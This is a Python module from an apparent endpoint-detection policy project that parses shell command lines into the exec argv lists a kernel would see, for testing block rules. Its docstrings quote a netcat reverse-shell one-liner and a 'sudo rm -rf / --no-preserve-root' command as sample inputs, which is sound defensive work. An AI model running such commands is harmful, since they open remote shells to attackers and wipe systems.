"""Turn a shell command line (e.g. from the corpora) into the argvs the kernel would see exec'd.

The policy matches execs, not shell text.  A corpus line such as
``cat /tmp/f | /bin/sh -i 2>&1 | nc host 4444 > /tmp/f`` reaches the kernel as several
``execve`` calls: the shell that runs the line (``sh -c LINE`` when a program or a script hands
it to a shell), then one exec per external simple command.  :func:`exec_argvs` returns all of
them, so a test can say "the line is blocked if any of its execs is blocked".

What the model does, and does not do:

- splits on ``|``, ``|&``, ``;``, ``&``, ``&&``, ``||``, newlines, ``(``, ``)``; drops
  comments, redirections (``>``, ``2>&1``, ``&>``, ``<<EOF`` with its here-document body …)
  and leading ``NAME=value`` assignments; removes quotes like a POSIX shell;
- command substitutions ``$(…)``, backticks and ``<(…)`` run as their own commands; the word
  that held them keeps the literal text (the real value is unknown offline);
- shell builtins (``echo``, ``kill``, ``history``, ``export``, ``[`` …) are not execs: only the
  ``sh -c`` that carries them shows them to the kernel;
- wrappers exec their command after themselves: ``sudo``, ``doas``, ``env``, ``nohup``,
  ``nice``, ``ionice``, ``timeout``, ``stdbuf``, ``setsid``, ``chroot``, ``time``,
  ``xargs`` (without the items it reads), ``find -exec … ;``, ``su -c``, ``exec``,
  ``command``, ``eval``; a shell's ``-c`` string is parsed again for its own children;
- a command named by a variable (``$SUDO mv …``, ``$sh_c "…"`` in get.docker.com) is guessed:
  a name containing ``sh`` is a ``sh -c`` of the rest, any other is a wrapper that may be empty;
- globs, ``~`` and parameters are not expanded (``rm -rf /tmp/*`` stays one argument).

Nothing here runs anything: it only reads text.

Example::

    >>> exec_argvs("sudo rm -rf / --no-preserve-root > /dev/null")
    [['sh', '-c', 'sudo rm -rf / --no-preserve-root > /dev/null'], ['sudo', 'rm', '-rf', '/', \
'--no-preserve-root'], ['rm', '-rf', '/', '--no-preserve-root']]
"""

from __future__ import annotations

import re

from edrfleet.policy.shell.lex import MAX_DEPTH as _MAX_DEPTH
from edrfleet.policy.shell.lex import RESERVED_PREFIX as _RESERVED_PREFIX
from edrfleet.policy.shell.lex import simple_commands

__all__ = ["exec_argvs", "simple_commands", "SHELLS", "BUILTINS"]

SHELLS = frozenset(
    {"sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "pdksh", "ash", "rbash", "yash",
     "posh", "busybox-sh"}
)

BUILTINS = frozenset(
    {
        ":", ".", "[", "[[", "alias", "bg", "bind", "break", "builtin", "caller", "cd",
        "compgen", "complete", "continue", "declare", "dirs", "disown", "echo", "enable",
        "exit", "export", "false", "fc", "fg", "getopts", "hash", "help", "history", "jobs",
        "kill", "let", "local", "logout", "mapfile", "popd", "printf", "pushd", "pwd", "read",
        "readarray", "readonly", "return", "set", "shift", "shopt", "source", "suspend", "test",
        "times", "trap", "true", "type", "typeset", "ulimit", "umask", "unalias", "unset",
        "wait", "zmodload", "ztcp", "zsocket", "setopt", "unsetopt", "print", "whence",
    }
)

_DROP_COMMAND = frozenset({"for", "select", "case", "function", "in"})

_ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*(\[[^\]]*\])?\+?=")
_VARIABLE_WORD = re.compile(r"^\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?$")


def _strip_prefix(words: list[str]) -> list[str]:
    while words:
        w = words[0]
        if w in _RESERVED_PREFIX or _ASSIGNMENT.match(w):
            words = words[1:]
            continue
        break
    return words


def _skip_options(words: list[str], with_value: set[str], stop_at_first_operand: bool = True
                  ) -> list[str]:
    """Drop leading options of a wrapper; ``with_value`` options consume the next word."""
    i = 0
    while i < len(words):
        w = words[i]
        if w == "--":
            return words[i + 1 :]
        if not w.startswith("-") or w == "-":
            return words[i:]
        if w in with_value:
            i += 2
            continue
        i += 1
    return [] if stop_at_first_operand else words


def _unwrap(argv: list[str]) -> list[list[str]]:
    """Commands a wrapper executes after itself (empty for a plain command)."""
    name = argv[0].rsplit("/", 1)[-1]
    rest = argv[1:]
    if name in ("sudo", "doas"):
        inner = _skip_options(rest, {"-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-T", "-U",
                                     "--user", "--group", "--host", "--prompt", "--chdir"})
        return [inner] if inner else []
    if name == "env":
        i = 0
        while i < len(rest):
            w = rest[i]
            if w in ("-u", "--unset", "-C", "--chdir"):
                i += 2
            elif w in ("-S", "--split-string") and i + 1 < len(rest):
                return [rest[i + 1].split() + rest[i + 2 :]]
            elif w.startswith("-") or _ASSIGNMENT.match(w):
                i += 1
            else:
                return [rest[i:]]
        return []
    if name in ("nohup", "setsid", "unbuffer"):
        inner = _skip_options(rest, set())
        return [inner] if inner else []
    if name == "nice":
        inner = _skip_options(rest, {"-n", "--adjustment"})
        return [inner] if inner else []
    if name == "ionice":
        inner = _skip_options(rest, {"-c", "-n", "-p", "-P", "-u", "--class", "--classdata"})
        return [inner] if inner else []
    if name == "stdbuf":
        inner = _skip_options(rest, {"-i", "-o", "-e"})
        return [inner] if inner else []
    if name == "time":
        inner = _skip_options(rest, {"-f", "-o", "--format", "--output"})
        return [inner] if inner else []
    if name == "timeout":
        inner = _skip_options(rest, {"-s", "-k", "--signal", "--kill-after"})
        return [inner[1:]] if len(inner) > 1 else []
    if name == "chroot":
        inner = _skip_options(rest, {"--userspec", "--groups"})
        return [inner[1:]] if len(inner) > 1 else []
    if name == "runuser":
        if "-c" in rest:
            return [["sh", "-c", rest[rest.index("-c") + 1]]] if rest[-1] != "-c" else []
        inner = _skip_options(rest, {"-u", "-g", "-G", "--user", "--group"})
        return [inner] if inner else []
    if name == "su":
        for flag in ("-c", "--command"):
            if flag in rest and rest.index(flag) + 1 < len(rest):
                return [["sh", "-c", rest[rest.index(flag) + 1]]]
        return []
    if name == "xargs":
        inner = _skip_options(rest, {"-I", "-i", "-n", "-L", "-l", "-P", "-s", "-d", "-E", "-e",
                                     "-a", "--max-args", "--max-lines", "--max-procs",
                                     "--delimiter", "--arg-file", "--eof"})
        return [inner or ["echo"]]
    if name == "find":
        out: list[list[str]] = []
        i = 0
        while i < len(rest):
            if rest[i] in ("-exec", "-execdir", "-ok", "-okdir"):
                j = i + 1
                while j < len(rest) and rest[j] not in (";", "+"):
                    j += 1
                if j > i + 1:
                    out.append(rest[i + 1 : j])
                i = j
            i += 1
        return out
    if name in SHELLS or name == "busybox" and rest[:1] in (["sh"], ["ash"], ["bash"]):
        words = rest[1:] if name == "busybox" else rest
        for k, w in enumerate(words):
            if w == "-c" or (w.startswith("-") and not w.startswith("--") and "c" in w[1:]):
                if k + 1 < len(words):
                    return [["\0script", words[k + 1]]]
                return []
            if not w.startswith("-"):
                break
    return []


def _builtin_execs(words: list[str], depth: int) -> list[list[str]]:
    """What a builtin that runs commands (exec, command, eval, builtin) executes."""
    name = words[0]
    if name == "exec":
        inner = _skip_options(words[1:], {"-a"})
        return _execs_of_command(inner, depth) if inner else []
    if name == "command":
        if len(words) > 1 and words[1] in ("-v", "-V"):
            return []
        inner = _skip_options(words[1:], set())
        return _execs_of_command(inner, depth) if inner else []
    if name == "eval":
        return _execs_of_script(" ".join(words[1:]), depth + 1)
    return []


def _execs_of_command(words: list[str], depth: int) -> list[list[str]]:
    words = _strip_prefix(words)
    if not words or depth > _MAX_DEPTH:
        return []
    first = words[0]
    if first in _DROP_COMMAND or first in ("[[", "]]", "((", "))"):
        return []
    if first in ("exec", "command", "eval"):
        return _builtin_execs(words, depth)
    if first in BUILTINS:
        return []
    var = _VARIABLE_WORD.match(first)
    if var:  # the command name is a variable: guess (see module docstring)
        if "sh" in var.group(1).lower() and len(words) > 1:
            return _expand(["sh", "-c", " ".join(words[1:])], depth + 1)
        return _execs_of_command(words[1:], depth + 1)
    if first.startswith(("$(", "`")) or not first:
        return []
    return _expand(words, depth)


def _execs_of_script(text: str, depth: int) -> list[list[str]]:
    out: list[list[str]] = []
    for words in simple_commands(text):
        out.extend(_execs_of_command(words, depth))
    return out


def _expand(argv: list[str], depth: int) -> list[list[str]]:
    out = [argv]
    if depth > _MAX_DEPTH:
        return out
    for inner in _unwrap(argv):
        if inner and inner[0] == "\0script":
            out.extend(_execs_of_script(inner[1], depth + 1))
        else:
            out.extend(_execs_of_command(inner, depth + 1))
    return out


def exec_argvs(line: str, shell: str = "sh") -> list[list[str]]:
    """Every argv the kernel would see when a shell runs ``line``: ``[shell, "-c", line]`` first.

    Args:
        line: one corpus command line (may hold several lines, pipes, substitutions).
        shell: argv[0] of the shell that is handed the line.

    Returns:
        A list of argvs (lists of str), the shell's own first, then every exec in text order,
        wrappers followed by what they run.  Duplicates are kept.
    """
    return _expand([shell, "-c", line], 0)
